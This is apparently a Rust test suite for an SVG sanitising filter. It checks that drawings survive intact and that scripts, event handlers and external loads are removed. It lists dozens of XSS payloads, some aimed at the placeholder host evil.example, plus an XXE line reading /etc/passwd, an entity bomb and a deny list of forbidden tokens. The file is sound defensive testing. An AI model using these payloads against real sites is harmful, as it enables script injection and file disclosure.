#![allow(clippy::unwrap_used, clippy::panic)]

use super::*;

fn filtered(body: &str) -> String {
    filter(document(body).as_bytes()).unwrap().text
}

fn document(body: &str) -> String {
    format!("<svg xmlns='{SVG}' xmlns:xlink='{XLINK}' xmlns:html='http://www.w3.org/1999/xhtml'>{body}</svg>")
}

#[test]
fn a_drawing_stays_what_it_is() {
    let logo = r##"<?xml version="1.0" encoding="utf-8"?><!-- made by hand -->
        <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
        <svg xmlns="http://www.w3.org/2000/svg" width="120px" height="40" viewBox="0 0 120 40">
        <defs><linearGradient id="a" gradientTransform="rotate(90)"><stop offset="0" stop-color="#f00"/></linearGradient>
        <filter id="b"><feGaussianBlur in="SourceGraphic" stdDeviation="2"/></filter></defs>
        <style>.x { fill: url(#a) } @media (prefers-color-scheme: dark) { .x { fill: #fff } }</style>
        <g class="x" style="opacity:.5" filter="url('#b')"><path d="M0 0L10,10z"/></g>
        <text x="1" y="2" font-family="Arial, 'Helvetica Neue'" dominant-baseline="middle">A &amp; B</text>
        <image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
        <rect width="1" height="1"><animateTransform attributeName="transform" type="rotate" values="0;90" dur="1s"/></rect>
        </svg>"##;
    let drawing = filter(logo.as_bytes()).unwrap();
    assert_eq!(drawing.size, Some((120, 40)));
    assert!(drawing.left_out.is_empty(), "{:?}", drawing.left_out);
    for kept in [
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"120px\"",
        "gradientTransform=\"rotate(90)\"",
        "<feGaussianBlur in=\"SourceGraphic\" stdDeviation=\"2\">",
        ".x{fill:url(#a);}@media (prefers-color-scheme: dark){.x{fill:#fff;}}",
        "style=\"opacity:.5;\" filter=\"url('#b')\"",
        "d=\"M0 0L10,10z\"",
        "font-family=\"Arial, 'Helvetica Neue'\"",
        "A &amp; B",
        "href=\"data:image/png;base64,iVBORw0KGgo=\"",
        "values=\"0;90\"",
    ] {
        assert!(drawing.text.contains(kept), "{kept} is not in {}", drawing.text);
    }
    for gone in ["<?xml", "DOCTYPE", "made by hand"] {
        assert!(!drawing.text.contains(gone), "{gone}");
    }
    // What was written reads back as itself.
    assert_eq!(filter(drawing.text.as_bytes()).unwrap().text, drawing.text);
}

/// Every row is an attack: what must not be in what is served, in any spelling a browser would understand.
#[test]
fn nothing_that_acts_gets_through() {
    let table = [
        "<script>alert(1)</script>",
        "<script xlink:href='https://evil.example/x.js'/>",
        "<html:script>alert(1)</html:script>",
        "<s:script xmlns:s='http://www.w3.org/2000/svg'>alert(1)</s:script>",
        "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<rect onload='alert(1)'/>",
        "<rect onclick=\"alert(1)\" ONLOAD='alert(1)' OnFocus='alert(1)'/>",
        "<rect html:onload='alert(1)'/>",
        "<foreignObject><html:body><html:iframe src='javascript:alert(1)'/></html:body></foreignObject>",
        "<html:iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'/>",
        "<use href='data:image/svg+xml;base64,PHN2Zy8+#x'/>",
        "<use xlink:href='#x'/>",
        "<a href='javascript:alert(1)'><text>x</text></a>",
        "<a xlink:href='JaVaScRiPt:alert(1)'><text>x</text></a>",
        "<a href='java&#9;script:alert(1)'><text>x</text></a>",
        "<a href='&#106;avascript:alert(1)'><text>x</text></a>",
        "<a href='&#x20;javascript:alert(1)'><text>x</text></a>",
        "<a href='//evil.example'><text>x</text></a>",
        "<a href='https://evil.example'><text>x</text></a>",
        "<a href='data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;'><text>x</text></a>",
        "<a href='vbscript:alert(1)' xlink:href='#x'><text>x</text></a>",
        "<a id='y' href='#x'><animate attributeName='href' to='javascript:alert(1)'/></a>",
        "<a href='#x'><set attributeName='href' to='javascript:alert(1)'/></a>",
        "<a href='#x'><animateTransform attributeName='xlink:href' to='javascript:alert(1)'/></a>",
        "<rect><animateMotion attributeName='onload' to='alert(1)'/></rect>",
        "<handler type='text/ecmascript'>alert(1)</handler>",
        "<image href='https://evil.example/x.png'/>",
        "<image href='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'/>",
        "<feImage href='https://evil.example/x.png'/>",
        "<image href='data:image/png;base64,\"&gt;&lt;script&gt;alert(1)'/>",
        "<style>@import url(https://evil.example/x.css);</style>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>@\\69mport 'https://evil.example/x.css';</style>",
        "<style>rect { fill: url(https://evil.example/x) }</style>",
        "<style>rect { fill: u\\72l(https://evil.example/x) }</style>",
        "<style>rect { fill: url(/*#*/https://evil.example/x) }</style>",
        "<style>rect { width: expression(alert(1)) }</style>",
        "<style>rect { -moz-binding: url(https://evil.example/x#x) }</style>",
        "<style>rect { behavior: url(#evil.example) }</style>",
        "<style>@font-face { font-family: x; src: url(https://evil.example/x) }</style>",
        "<style><![CDATA[ </style><script>alert(1)</script> ]]></style>",
        "<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>",
        "<style>rect { fill: image-set('https://evil.example/x' 1x) }</style>",
        "<style>@media (x: url(https://evil.example)) { rect { fill: red } }</style>",
        "<rect style='fill: url(https://evil.example/x)'/>",
        "<rect style='} rect { fill: url(https://evil.example/x)'/>",
        "<rect style='background: url(&quot;javascript:alert(1)&quot;)'/>",
        "<rect fill='url(https://evil.example/x)'/>",
        "<rect fill='url(\\68ttps://evil.example/x)'/>",
        "<rect mask='image-set(&quot;https://evil.example/x&quot; 1x)'/>",
        "<rect filter='url(data:image/svg+xml,x#y)'/>",
        "<text><![CDATA[</text><script>alert(1)</script>]]></text>",
        "<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>",
        "<desc><html:img src='x' onerror='alert(1)'/></desc>",
        "<metadata><html:script>alert(1)</html:script></metadata>",
        "<?xml-stylesheet href='https://evil.example/x.xsl' type='text/xsl'?>",
        "<!-- --><script>alert(1)</script><!-- -->",
        "<audio href='https://evil.example'/><video href='https://evil.example'/>",
        "<discard href='#x' onbegin='alert(1)'/>",
        "<rect xml:base='https://evil.example/'/>",
        "<rect xmlns:e='http://www.w3.org/2001/xml-events' e:event='load' e:handler='#x'/>",
        "<switch><g requiredExtensions='http://www.w3.org/1999/xhtml'><foreignObject/></g></switch>",
        "<iframe href='javascript:alert(1)'/>",
        "<embed href='x.html'/><object data='x.html'/>",
    ];
    let forbidden = [
        "<script",
        "</script",
        "<handler",
        "<foreign",
        "<iframe",
        "<use",
        "<set",
        "<discard",
        "<audio",
        "<video",
        "<embed",
        "<object",
        "<img",
        "javascript:",
        "vbscript:",
        "evil.example",
        "text/html",
        "svg+xml",
        "@import",
        "@font-face",
        "expression(",
        "behavior",
        "binding",
        "<?",
        "<!",
        "xml:base",
        "srcdoc",
        "\\",
    ];
    for body in table {
        let text = filtered(body);
        let lower = text.to_lowercase();
        for word in forbidden {
            assert!(!lower.contains(word), "{word} is left of {body}: {text}");
        }
        // No attribute at all whose name begins with "on", and the result is well-formed.
        let written = Document::parse(&text).unwrap_or_else(|error| panic!("{error}: {text}"));
        for node in written.descendants().filter(Node::is_element) {
            assert_eq!(node.tag_name().namespace(), Some(SVG), "{text}");
            let handlers = node.attributes().filter(|one| one.name().to_lowercase().starts_with("on"));
            assert_eq!(handlers.count(), 0, "{text}");
            let moves = node.attribute("attributeName").unwrap_or_default();
            assert!(!moves.contains("href") && !moves.starts_with("on"), "{text}");
        }
    }
}

#[test]
fn what_acted_is_told() {
    let drawing = filter(document("<script/><rect onload='x' fill='url(x)'/><html:b/>").as_bytes()).unwrap();
    assert_eq!(drawing.left_out, ["<b>", "<script>", "fill", "onload"]);
}

#[test]
fn foreign_vocabularies_are_not_taken_for_svg() {
    let text = filtered("<x:circle xmlns:x='urn:x' r='1'/><html:style>rect{fill:red}</html:style><rect x='1'/>");
    assert_eq!(text, format!("<svg xmlns=\"{SVG}\"><rect x=\"1\"></rect></svg>"));
    // Nor are selectors that nobody needs for a drawing.
    assert_eq!(filtered("<style>*|a { fill: red } rect { fill: red }</style>").matches("fill").count(), 1);
}

#[test]
fn what_is_no_drawing_is_refused() {
    let bomb = "<!DOCTYPE svg [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>]><svg xmlns='http://www.w3.org/2000/svg'>&b;</svg>";
    let outside = "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>";
    let parameter = "<!DOCTYPE svg [<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'> %x;]><svg/>";
    for (text, why) in [
        (bomb, SvgFault::Entities),
        (outside, SvgFault::Entities),
        (parameter, SvgFault::Entities),
        ("<svg>&nbsp;</svg>", SvgFault::NotXml),
        ("<svg", SvgFault::NotXml),
        ("<svg><g></svg>", SvgFault::NotXml),
        ("<svg a='1' a='2'/>", SvgFault::NotXml),
        ("<svg/><script/>", SvgFault::NotXml),
        ("hello", SvgFault::NotXml),
        ("", SvgFault::NotXml),
        ("<html><body/></html>", SvgFault::Root),
        ("<svg xmlns='http://www.w3.org/1999/xhtml'/>", SvgFault::Root),
        ("<x:svg xmlns:x='urn:x'/>", SvgFault::Root),
    ] {
        assert_eq!(filter(text.as_bytes()), Err(why), "{text}");
    }
    let wide: Vec<u8> = "<svg/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(filter(&[b"\xff\xfe", wide.as_slice()].concat()), Err(SvgFault::NotUtf8));
    assert_eq!(filter(b"\x89PNG\r\n\x1a\n"), Err(SvgFault::NotUtf8));
}

#[test]
fn attributes_of_a_document_type_are_not_applied_twice() {
    let text = "<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'alert(1)'>]><svg xmlns='http://www.w3.org/2000/svg'/>";
    // A browser would apply the default if the document type were served.
    if let Ok(drawing) = filter(text.as_bytes()) {
        assert_eq!(drawing.text, format!("<svg xmlns=\"{SVG}\"></svg>"));
    }
}

#[test]
fn depth_and_number_are_bounded() {
    let deep = |levels: usize| document(&format!("{}{}", "<g>".repeat(levels), "</g>".repeat(levels)));
    assert!(filter(deep(DEEPEST).as_bytes()).is_ok());
    assert_eq!(filter(deep(DEEPEST + 1).as_bytes()), Err(SvgFault::TooDeep));
    assert!(filter(deep(90_000).as_bytes()).is_err());
    assert_eq!(filter(document(&"<g/>".repeat(100_001)).as_bytes()), Err(SvgFault::NotXml));
}

#[test]
fn sizes_are_the_roots_or_the_view_boxs() {
    let size = |attributes: &str| filter(format!("<svg {attributes}/>").as_bytes()).unwrap().size;
    assert_eq!(size("width='10.2' height='20px'"), Some((11, 20)));
    assert_eq!(size("width='100%' height='100%' viewBox='0, 0 30 40.5'"), Some((30, 41)));
    for none in [
        "",
        "width='10'",
        "viewBox='0 0 10'",
        "width='-1' height='2'",
        "width='1e99' height='1'",
        "viewBox='0 0 NaN 1'",
    ] {
        assert_eq!(size(none), None, "{none}");
    }
}
